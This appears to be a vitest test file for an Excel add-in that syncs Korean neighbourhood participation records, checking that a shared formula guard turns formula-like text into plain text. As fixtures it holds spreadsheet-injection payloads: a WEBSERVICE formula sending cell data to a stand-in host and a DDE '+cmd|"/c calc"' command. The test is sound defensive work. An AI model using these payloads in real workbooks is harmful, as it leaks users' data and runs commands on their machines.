// Issue 17: one official's text must never become a live formula in another's workbook.
import { describe, expect, it } from 'vitest';
import { createExcelLayer } from '../../addin/excel/index.ts';
import { createSyncEngine, memoryStore } from '../../addin/sync/index.ts';
import { guardFormula, rowIdHeader } from '../../domain/index.ts';
import { FakeServer } from '../sync/fake-server.ts';
import { TestClient } from '../sync/client.ts';
import { addGrid, addTable, entered, mockHost, newModel } from './strict-mock.ts';

const header = [rowIdHeader, '동', '단계', '일자', '활동유형', '제목', '참여인원', '비고'];
const fields = [null, 'dong', 'phase', 'date', 'activity', 'title', 'participants', 'note'];
const smuggled = { dong: '갈마1동', phase: 1, date: '2019-05-30', activity: '주민총회', title: '=1+1', participants: 10, note: '=WEBSERVICE("http://x.example/?"&A1)' };

describe('the one guard (domain/formula-guard.ts), shared by the add-in and the CSV export', () => {
  it('marks as text what Excel would read as a formula, and leaves the rest alone', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1', '\n=1']) expect(guardFormula(text)).toBe(`'${text}`);
    for (const text of ['1+1', '주민총회', '', "'quoted", 'a=b']) expect(guardFormula(text)).toBe(text);
  });
});

describe('writing into an official’s table against the fake Excel host', () => {
  it('a value =1+1 arriving by pull (가져오기) lands as the text =1+1, never a formula', async () => {
    const server = new FakeServer();
    const other = new TestClient(server.transport('other'));
    other.add(smuggled);
    await other.sync();

    const model = newModel();
    const t = addTable(model, 'JachiParticipation', '주민참여', header, []);
    const engine = createSyncEngine({ transport: server.transport('me'), store: memoryStore() });
    const pulled = await engine.pull('participation', []);
    const excel = createExcelLayer(mockHost(model));
    await excel.writeRows('JachiParticipation', fields, [], pulled.tableWrites);

    expect(t.formulas.size).toBe(0);
    expect(t.rows[0]!.slice(5)).toEqual(['=1+1', 10, '=WEBSERVICE("http://x.example/?"&A1)']);
    // Read back, it is the same text the service holds: nothing to send back.
    const read = await excel.readTable('JachiParticipation');
    expect(read.values[0]!.slice(5)).toEqual(['=1+1', 10, '=WEBSERVICE("http://x.example/?"&A1)']);
  });

  it('서버 값 받기 (take the service’s value) writes the same way', async () => {
    const model = newModel();
    const t = addTable(model, 'T', 'S', header, [['id-1', '갈마1동', 1, 43615, '주민총회', '제목', 10, '']]);
    await createExcelLayer(mockHost(model)).writeRows('T', fields, ['id-1'], [{ type: 'upsert', rowId: 'id-1', values: { ...smuggled, title: '+cmd|"/c calc"!A0' } }]);
    expect(t.formulas.size).toBe(0);
    expect(t.rows[0]![5]).toBe('+cmd|"/c calc"!A0');
  });

  it('adopting a table keeps a merged cell’s formula-like text as text when it fills it down', async () => {
    const model = newModel();
    const grid = addGrid(
      model,
      'S',
      [
        ['동명', '비고'],
        ['@갈마1동', '하나'],
        ['', '둘'],
      ],
      ['A2:A3'],
    );
    await createExcelLayer(mockHost(model)).adoptRange({ tableName: null, sheet: 'S', address: 'S!A1:B3', headerRow: 0, newName: 'T', merges: ['A2:A3'] });
    expect(grid.formulas.size).toBe(0);
    expect(grid.values.slice(1).map((r) => r[0])).toEqual(['@갈마1동', '@갈마1동']);
  });

  it('the fake host is Excel-like: unguarded formula text is taken as a formula', () => {
    expect(entered('=1+1')).toEqual({ value: '=1+1', formula: true });
    expect(entered("'=1+1")).toEqual({ value: '=1+1', formula: false });
  });
});
